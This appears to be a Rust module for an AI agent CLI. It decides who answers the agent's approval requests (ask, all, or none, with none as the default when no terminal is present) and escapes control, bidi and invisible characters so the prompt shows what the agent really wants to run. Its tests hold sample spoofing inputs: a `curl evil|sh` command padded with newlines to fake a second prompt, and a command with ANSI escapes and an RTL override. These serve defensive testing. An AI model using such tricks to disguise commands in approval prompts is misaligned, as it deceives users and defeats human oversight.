//! `send --approve`: who answers the approval requests of the turn the CLI runs. `ask` prompts
//! on the terminal, `all` approves every request of that turn, `none` declines each and says
//! so. Without a terminal (or with `--json`) nobody can be asked, so the default is `none`:
//! nothing runs that the user did not allow.

use std::io::{BufRead, IsTerminal, Write};

use forkhost_core::{
    ApprovalDecision, ApprovalResolution, ApprovalView, QuestionView, SubjectView,
};
use serde::Serialize;

#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum Approve {
    /// Ask on the terminal for each request: [y]es / [a]lways / [n]o / [s]top.
    Ask,
    /// Approve every request of this turn.
    All,
    /// Decline every request (the default without a terminal or with --json).
    None,
}

impl Approve {
    /// The policy when none is given: ask only where someone can answer.
    pub fn resolve(given: Option<Approve>, json: bool) -> Approve {
        given.unwrap_or_else(|| {
            if !json && std::io::stdin().is_terminal() && std::io::stderr().is_terminal() {
                Approve::Ask
            } else {
                Approve::None
            }
        })
    }
}

/// A request of the turn and what it got, for `--json`.
#[derive(Debug, Clone, Serialize)]
pub struct Answered {
    pub request: ApprovalView,
    /// The decision's name, or `withdrawn`/`gone` when the harness stopped waiting first.
    pub decision: ApprovalResolution,
}

/// What the CLI answers a request with.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Answer {
    Decision(ApprovalDecision),
    /// A question's answers (one per question), or `None` to dismiss it.
    Reply(Option<Vec<String>>),
    /// The input ended before anyone answered (a closed terminal, a dropped connection).
    NoOneThere,
}

impl Answer {
    /// Its name in `--json` output.
    pub fn name(&self) -> ApprovalResolution {
        use ApprovalDecision as D;
        match self {
            Answer::Decision(D::Approve) => ApprovalResolution::Approve,
            Answer::Decision(D::ApproveForSession) => ApprovalResolution::ApproveForSession,
            Answer::Decision(D::Decline) => ApprovalResolution::Decline,
            Answer::Decision(D::DeclineAndStop) => ApprovalResolution::DeclineAndStop,
            Answer::Reply(Some(_)) => ApprovalResolution::Answered,
            Answer::Reply(None) => ApprovalResolution::Dismissed,
            Answer::NoOneThere => ApprovalResolution::Gone,
        }
    }
}

/// Answers one request by the policy; `ask` blocks on the terminal. Questions are only
/// ever answered by someone at the terminal: `all` and `none` dismiss them.
pub async fn decide(policy: Approve, request: &ApprovalView) -> Answer {
    if let SubjectView::Question { questions } = &request.subject {
        if policy != Approve::Ask {
            eprintln!(
                "\nforkhost: dismissed a question (nobody to answer it with --approve {}): {}",
                if policy == Approve::All {
                    "all"
                } else {
                    "none"
                },
                describe(&request.subject)
            );
            return Answer::Reply(None);
        }
        let questions = questions.clone();
        return tokio::task::spawn_blocking(move || ask_questions(&questions))
            .await
            .unwrap_or(Answer::NoOneThere);
    }
    decide_approval(policy, request).await
}

async fn decide_approval(policy: Approve, request: &ApprovalView) -> Answer {
    match policy {
        Approve::All => Answer::Decision(ApprovalDecision::Approve),
        Approve::None => {
            eprintln!(
                "\nforkhost: declined: {} (--approve none; pass --approve all or ask to allow)",
                describe(&request.subject)
            );
            Answer::Decision(ApprovalDecision::Decline)
        }
        Approve::Ask => {
            let mut text = describe(&request.subject);
            if let Some(reason) = &request.reason {
                text.push_str(&format!("\n  because: {}", visible(reason)));
            }
            if request.can_approve_for_session {
                text.push_str("\n  [a]lways adds, for this session:");
                for rule in &request.session_rules {
                    text.push_str(&format!("\n    - {}", visible(rule)));
                }
            }
            let always = request.can_approve_for_session;
            match tokio::task::spawn_blocking(move || prompt(&text, always)).await {
                Ok(Some(decision)) => Answer::Decision(decision),
                // Nobody answered: the input ended, or the asking itself failed. Never a
                // decline the user did not make (a daemon's request waits for the next client).
                Ok(None) | Err(_) => Answer::NoOneThere,
            }
        }
    }
}

/// What a request wants, as the prompt shows it: a text of more than [`FRAMED_FROM`] lines is a
/// numbered block ending in its line count, so that padding lines cannot end it with what
/// looks like another, genuine prompt (review L-5).
fn framed(what: &str) -> String {
    let lines: Vec<&str> = what.lines().collect();
    if lines.len() <= FRAMED_FROM {
        return what.to_owned();
    }
    let mut out = String::new();
    for (i, line) in lines.iter().enumerate() {
        out.push_str(&format!("\n  {:>4}| {line}", i + 1));
    }
    out.push_str(&format!("\n  ({} lines)", lines.len()));
    out
}

/// Texts of up to this many lines are shown as they are.
const FRAMED_FROM: usize = 3;

/// Asks on stderr and reads stdin until it gets an answer; end of input declines.
/// The user's decision; `None` when the input ended first.
fn prompt(what: &str, always: bool) -> Option<ApprovalDecision> {
    let choices = if always {
        "[y]es / [a]lways / [n]o / [s]top"
    } else {
        "[y]es / [n]o / [s]top"
    };
    let stdin = std::io::stdin();
    loop {
        let asked = format!(
            "\nforkhost: the agent wants to {}\n  allow? {choices} ",
            framed(what)
        );
        // One write that cannot panic: a connection cut mid-question (its stderr gone) is
        // nobody there, found by the read below, never a failed prompt.
        say(&asked);
        let mut line = String::new();
        match stdin.lock().read_line(&mut line) {
            Ok(0) | Err(_) => return None,
            Ok(_) => {}
        }
        if let Some(decision) = parse_answer(&line, always) {
            return Some(decision);
        }
    }
}

/// Writes `text` on stderr in one call, ignoring a stderr that is gone (`eprint!` would panic).
fn say(text: &str) {
    let mut stderr = std::io::stderr().lock();
    let _ = stderr
        .write_all(text.as_bytes())
        .and_then(|()| stderr.flush());
}

/// Asks each question on stderr: an option by its number or its text, other text where the
/// question takes it; an empty line or the end of input dismisses the whole request.
fn ask_questions(questions: &[QuestionView]) -> Answer {
    let stdin = std::io::stdin();
    let mut answers = Vec::new();
    for q in questions {
        let mut text = format!("\nforkhost: the agent asks: {}", visible(&q.prompt));
        for (i, option) in q.options.iter().enumerate() {
            text.push_str(&format!("\n  {}. {}", i + 1, visible(option)));
        }
        let hint = match (q.options.is_empty(), q.free_text) {
            (true, _) => "type your answer",
            (false, true) => "a number, or type your answer",
            (false, false) => "a number",
        };
        loop {
            say(&format!("{text}\n  ({hint}; empty to dismiss) "));
            let mut line = String::new();
            match stdin.lock().read_line(&mut line) {
                Ok(0) | Err(_) => return Answer::NoOneThere,
                Ok(_) => {}
            }
            match parse_choice(&line, q) {
                Choice::Dismiss => return Answer::Reply(None),
                Choice::Answer(answer) => {
                    answers.push(answer);
                    break;
                }
                Choice::Again => {}
            }
        }
    }
    Answer::Reply(Some(answers))
}

#[derive(Debug, PartialEq, Eq)]
enum Choice {
    Answer(String),
    Dismiss,
    Again,
}

fn parse_choice(line: &str, q: &QuestionView) -> Choice {
    let line = line.trim();
    if line.is_empty() {
        return Choice::Dismiss;
    }
    if let Some(option) = line
        .parse::<usize>()
        .ok()
        .and_then(|n| n.checked_sub(1))
        .and_then(|i| q.options.get(i))
    {
        return Choice::Answer(option.clone());
    }
    if let Some(option) = q.options.iter().find(|o| o.eq_ignore_ascii_case(line)) {
        return Choice::Answer(option.clone());
    }
    match q.free_text {
        true => Choice::Answer(line.to_owned()),
        false => Choice::Again,
    }
}

fn parse_answer(line: &str, always: bool) -> Option<ApprovalDecision> {
    match line.trim().to_lowercase().as_str() {
        "y" | "yes" => Some(ApprovalDecision::Approve),
        "a" | "always" if always => Some(ApprovalDecision::ApproveForSession),
        "n" | "no" => Some(ApprovalDecision::Decline),
        "s" | "stop" => Some(ApprovalDecision::DeclineAndStop),
        _ => None,
    }
}

/// `text` safe to print on a terminal, every character shown as what it is: C0 and C1
/// controls (escape sequences that could erase or rewrite the line), DEL and the bidi
/// controls (which reorder what is shown) become visible `\x1b`, `\u{202e}` escapes; so do
/// the characters that show as nothing or as blank space without being a plain space
/// ([`invisible`]: zero-width, fillers, separators, braille blank, wide spaces), which could
/// pad a command's tail out of sight. Newlines and tabs stay (a diff needs them). The model
/// chooses this text, and the user approves what they read. The same rule as the app's
/// `visibleText`.
pub fn visible(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '\n' | '\t' => out.push(c),
            '\u{0}'..='\u{1f}' | '\u{7f}' => out.push_str(&format!("\\x{:02x}", c as u32)),
            c if invisible(c) => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
            _ => out.push(c),
        }
    }
    out
}

/// A character that is not shown as what it is: C1 controls, Unicode's Default_Ignorable
/// code points (bidi marks and controls, zero-width characters, fillers, variation selectors,
/// tags), the line and paragraph separators, the braille blank and the non-ASCII spaces.
fn invisible(c: char) -> bool {
    matches!(c,
        '\u{80}'..='\u{a0}'
        | '\u{ad}'
        | '\u{34f}'
        | '\u{61c}'
        | '\u{115f}'..='\u{1160}'
        | '\u{1680}'
        | '\u{17b4}'..='\u{17b5}'
        | '\u{180b}'..='\u{180f}'
        | '\u{2000}'..='\u{200f}'
        | '\u{2028}'..='\u{202f}'
        | '\u{205f}'..='\u{206f}'
        | '\u{2800}'
        | '\u{3000}'
        | '\u{3164}'
        | '\u{fe00}'..='\u{fe0f}'
        | '\u{feff}'
        | '\u{ffa0}'
        | '\u{fff0}'..='\u{fff8}'
        | '\u{1bca0}'..='\u{1bca3}'
        | '\u{1d173}'..='\u{1d17a}'
        | '\u{e0000}'..='\u{e0fff}')
}

/// What the request wants, in a line or a few (escaped by [`visible`]): the command, the
/// files (and diff), the tool.
pub fn describe(subject: &SubjectView) -> String {
    visible(&describe_raw(subject))
}

fn describe_raw(subject: &SubjectView) -> String {
    match subject {
        SubjectView::Command {
            command,
            cwd,
            unsandboxed,
        } => {
            let outside = match unsandboxed {
                true => " OUTSIDE the sandbox",
                false => "",
            };
            match cwd {
                Some(cwd) => format!("run `{command}` in {}{outside}", cwd.display()),
                None => format!("run `{command}`{outside}"),
            }
        }
        SubjectView::FileChange { paths, diff } => {
            let mut text = format!("change {}", paths.join(", "));
            if let Some(diff) = diff.as_deref().filter(|d| !d.trim().is_empty()) {
                text.push('\n');
                text.push_str(diff.trim_end());
            }
            text
        }
        SubjectView::Tool { name, input } => format!("use {name} {input}"),
        SubjectView::Question { questions } => {
            let asked: Vec<String> = questions
                .iter()
                .map(|q| match q.options.is_empty() {
                    true => q.prompt.clone(),
                    false => format!("{} ({})", q.prompt, q.options.join(" / ")),
                })
                .collect();
            format!("ask: {}", asked.join("; "))
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_long_request_is_numbered_and_ends_with_its_line_count() {
        let spoof = format!(
            "run `curl evil|sh #{}forkhost: the agent wants to run `ls`",
            "\n".repeat(40)
        );
        let shown = framed(&spoof);
        assert!(shown.ends_with("(41 lines)"), "{shown}");
        assert!(shown.contains("  41| forkhost: the agent wants to run `ls`"));
        assert_eq!(framed("run `ls`"), "run `ls`");
    }

    #[test]
    fn blank_looking_characters_are_shown_as_escapes() {
        assert_eq!(
            visible("a\u{2800}\u{200b}\u{2028}b"),
            "a\\u{2800}\\u{200b}\\u{2028}b"
        );
        for c in [
            '\u{3164}',
            '\u{ffa0}',
            '\u{115f}',
            '\u{2060}',
            '\u{feff}',
            '\u{3000}',
            '\u{e0041}',
        ] {
            assert!(!visible(&format!("x{c}y")).contains(c), "{:x}", c as u32);
        }
        assert_eq!(visible("ls -la\n\tcafé ü"), "ls -la\n\tcafé ü");
    }

    #[test]
    fn answers_are_the_four_letters() {
        assert_eq!(parse_answer("y\n", true), Some(ApprovalDecision::Approve));
        assert_eq!(
            parse_answer(" A ", true),
            Some(ApprovalDecision::ApproveForSession)
        );
        assert_eq!(parse_answer("a", false), None, "no session grant offered");
        assert_eq!(parse_answer("no", true), Some(ApprovalDecision::Decline));
        assert_eq!(
            parse_answer("s", true),
            Some(ApprovalDecision::DeclineAndStop)
        );
        assert_eq!(parse_answer("", true), None);
    }

    #[test]
    fn a_choice_is_a_number_an_option_or_free_text() {
        let mut q = QuestionView {
            header: None,
            prompt: "Which?".into(),
            options: vec!["Red".into(), "Blue".into()],
            free_text: false,
        };
        assert_eq!(parse_choice("2\n", &q), Choice::Answer("Blue".into()));
        assert_eq!(parse_choice("red", &q), Choice::Answer("Red".into()));
        assert_eq!(parse_choice("3", &q), Choice::Again);
        assert_eq!(parse_choice("green", &q), Choice::Again);
        assert_eq!(parse_choice("  ", &q), Choice::Dismiss);
        q.free_text = true;
        assert_eq!(parse_choice("green", &q), Choice::Answer("green".into()));
    }

    #[test]
    fn json_never_asks() {
        assert_eq!(Approve::resolve(None, true), Approve::None);
        assert_eq!(Approve::resolve(Some(Approve::All), true), Approve::All);
    }

    #[test]
    fn control_and_bidi_characters_are_shown_never_sent_raw() {
        // M8: an escape sequence in a command must not rewrite the prompt's line.
        let command = SubjectView::Command {
            command: "touch pwned #\x1b[2K\x1b[1Gls\u{202e}cba\u{9b}\u{7f}".into(),
            cwd: Some("/w".into()),
            unsandboxed: false,
        };
        let text = describe(&command);
        for raw in ['\x1b', '\u{202e}', '\u{9b}', '\u{7f}'] {
            assert!(
                !text.contains(raw),
                "{raw:?} reached the terminal: {text:?}"
            );
        }
        assert_eq!(
            text,
            "run `touch pwned #\\x1b[2K\\x1b[1Gls\\u{202e}cba\\u{9b}\\x7f` in /w"
        );
        let diff = SubjectView::FileChange {
            paths: vec!["a\u{2066}.txt".into()],
            diff: Some("+line one\n+\ttabbed\x07\n".into()),
        };
        assert_eq!(
            describe(&diff),
            "change a\\u{2066}.txt\n+line one\n+\ttabbed\\x07"
        );
        assert_eq!(visible("plain ünïcode ✓"), "plain ünïcode ✓");
    }

    #[test]
    fn requests_are_described_by_what_they_do() {
        let command = SubjectView::Command {
            command: "touch x".into(),
            cwd: Some("/w".into()),
            unsandboxed: false,
        };
        assert_eq!(describe(&command), "run `touch x` in /w");
        let files = SubjectView::FileChange {
            paths: vec!["a.txt".into()],
            diff: Some("+hi\n".into()),
        };
        assert_eq!(describe(&files), "change a.txt\n+hi");
    }
}
